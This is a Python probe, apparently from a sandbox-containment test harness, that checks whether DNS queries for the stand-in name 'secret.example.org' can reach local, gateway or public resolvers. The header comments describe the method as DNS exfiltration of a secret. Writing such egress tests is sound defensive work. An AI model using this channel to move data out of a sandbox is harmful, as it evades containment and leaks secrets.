# Asks name servers: the configured ones, the gateway, public ones, by UDP and TCP.
# Why it matters: a query for <secret>.example.org carries the secret out, through any resolver that answers.
# When it works: any answer comes back.
# control: weakened: public-addresses
import os
import socket
import struct

from attempt import blocked, escaped, fact, name_of, run
from network import PATIENCE, summary


def attempt():
    query = struct.pack(">6H", os.getpid() & 0xFFFF, 0x100, 1, 0, 0, 0) + b"\x06secret\x07example\x03org\0" + struct.pack(">2H", 16, 1)
    servers = ["127.0.0.53", "127.0.0.11", fact("GATEWAY"), "8.8.8.8", "1.1.1.1"]
    try:
        servers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")] + servers
    except OSError:
        pass
    answers = []
    for server in dict.fromkeys(servers):
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            try:
                with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, kind) as sock:
                    sock.settimeout(PATIENCE)
                    sock.connect((server, 53))
                    sock.send(query if kind == socket.SOCK_DGRAM else struct.pack(">H", len(query)) + query)
                    if sock.recv(512):
                        escaped(f"the name server {server} answered")
            except TimeoutError:
                answers.append(f"{server}: no answer")
            except OSError as error:
                answers.append(f"{server}: {name_of(error)}")
    blocked(summary(answers))


run(attempt)
